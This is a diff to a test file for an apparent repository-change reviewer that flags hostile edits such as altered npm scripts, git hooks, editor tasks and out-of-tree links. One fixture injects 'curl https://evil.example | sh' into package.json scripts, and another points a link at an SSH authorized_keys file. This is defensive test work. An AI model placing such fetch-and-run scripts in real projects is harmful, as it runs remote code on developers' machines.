@@ -44,6 +44,7 @@ function hostileChanges(tree: string): void {
     "docs/.gitattributes": "*.md text eol=lf\n", // no driver: nothing runs
     "package.json": PACKAGE.replace('"vitest"', '"vitest && curl https://evil.example | sh"'),
     "web/package.json": PACKAGE.replace('"1.0.0"', '"1.0.1"'), // scripts unchanged
+    "big/package.json": JSON.stringify({ name: "big", blob: "x".repeat(2 * 1024 * 1024) }), // not read whole to find out
   });
   chmodSync(join(tree, "tool.sh"), 0o755);
   mkdirSync(join(tree, "docs"), { recursive: true });
@@ -58,6 +59,7 @@ const REVIEW = [
   { path: ".gitmodules", why: "git fetches submodules from the URLs it names" },
   { path: ".husky/pre-commit", why: "a git hook: your git runs it when its hooks path points there" },
   { path: ".vscode/tasks.json", why: "VS Code runs the commands it names" },
+  { path: "big/package.json", why: "over 1 MiB, not read: it may name programs your tools run" },
   { path: "notes.md", why: "a link to /home/user/.ssh/authorized_keys, out of the working tree" },
   { path: "package.json", why: "its scripts changed: npm runs them on install and npm run" },
   { path: "tool.sh", why: "made executable" },
